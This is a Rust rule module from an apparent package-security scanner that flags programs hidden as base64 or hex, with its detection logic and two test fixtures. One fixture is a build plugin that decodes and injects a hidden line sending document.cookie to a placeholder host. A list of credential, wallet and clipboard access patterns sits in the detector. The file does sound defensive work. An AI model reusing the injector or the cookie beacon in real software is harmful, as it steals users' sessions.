//! A program that acts is carried in an encoding, and nobody is seen to decode it.

use super::judge::{self, ByTrigger};
use super::provenance::Whose;
use super::{Context, Declaration, Example, Finding, host};
use crate::behaviours::Behaviour;
use crate::model::Severity;

pub(super) static FINDING: Declaration = Declaration {
    id: "encoded-code",
    title: "Carries a program in an encoding",
    severity: Severity::High,
    summary: "A file of the package holds a program as base64 or hex. Decoded, it talks to the network, starts processes or reads what is private, and nothing was seen that decodes it: that may be another package, a library that gets it as text, or code that is hidden too well.",
    advice: "Read the program; the report shows what it does. Find out who decodes it, and where it then runs: it may go into what a build makes.",
    benign_when: "A build has put a worker's code into a text, in a package whose product that is.",
    references: &["CWE-506", "T1027.013", "T1140"],
    examples: &[
        Example {
            name: "a build tool gets a hidden program as text",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const shim = "bmF2aWdhdG9yLnNlbmRCZWFjb24oImh0dHBzOi8vbWV0cmljcy5vdGhlci5pbnZhbGlkL2kiLCBkb2N1bWVudC5jb29raWUpOw==";
module.exports = (api) => ({ visitor: { Program(path) { path.pushContainer("body", api.template.ast(Buffer.from(shim, "base64").toString())); } } });"#,
                ),
            ],
        },
        Example {
            name: "a worker that computes",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.worker = "b25tZXNzYWdlID0gZnVuY3Rpb24gKGUpIHsgcG9zdE1lc3NhZ2UoZS5kYXRhLm1hcChmdW5jdGlvbiAobikgeyByZXR1cm4gbiAqIDI7IH0pKTsgfTs=";"#,
                ),
            ],
        },
    ],
    detect,
};

const AT_MOST: ByTrigger = ByTrigger {
    import: Severity::High,
    asked: Severity::Medium,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    for &(file, holder) in context.encoded {
        let inside: Vec<&Behaviour> = context
            .behaviours
            .iter()
            .filter(|one| one.sites.iter().any(|site| site.file == file))
            .collect();
        let sends = |one: &&&Behaviour| one.what.id.starts_with("network.");
        let starts = |one: &&&Behaviour| {
            matches!(
                one.what.id,
                "process.exec" | "process.spawn" | "process.fork"
            )
        };
        let Some(act) = inside
            .iter()
            .find(starts)
            .or_else(|| inside.iter().find(sends))
        else {
            continue;
        };
        let private = inside.iter().find(|one| is_private(one));
        let to = act.target.as_deref().unwrap_or("an unknown target");
        let message = match private {
            Some(what) => format!(
                "an encoded program uses {} and reaches {to} by {}",
                what.what.id, act.what.id
            ),
            None => format!("an encoded program reaches {to} by {}", act.what.id),
        };
        let mut finding = Finding::of_behaviour(&FINDING, act, message);
        finding.evidence.push(holder);
        finding.evidence.sort_unstable();
        if private.is_none() && !act.what.id.starts_with("process.") {
            // Where it goes may be told by whoever starts it.
            let is_fixed = inside.iter().any(|one| goes_out(context, one));
            let at_most = if is_fixed {
                Severity::Medium
            } else {
                Severity::Low
            };
            let note = "it reads nothing private".to_owned();
            finding.lower(at_most, "reads-nothing", note);
        }
        judge::by_trigger(AT_MOST, &mut finding);
        found.push(finding);
    }
}

/// Whether it talks to a host that it names, and that is not this machine.
fn goes_out(context: &Context<'_>, one: &Behaviour) -> bool {
    let host = one
        .target
        .as_deref()
        .filter(|url| host::host(url).is_some());
    let whose = host.map(|url| context.home.whose(url));
    one.what.id.starts_with("network.") && whose.is_some_and(|whose| whose != Some(Whose::Local))
}

/// Whether what it does is to get at something private: secrets, what the page keeps, keys.
fn is_private(one: &Behaviour) -> bool {
    let id = one.what.id;
    [
        "clipboard.read",
        "credential.",
        "input.",
        "storage.",
        "wallet.",
    ]
    .iter()
    .any(|start| id.starts_with(start))
}
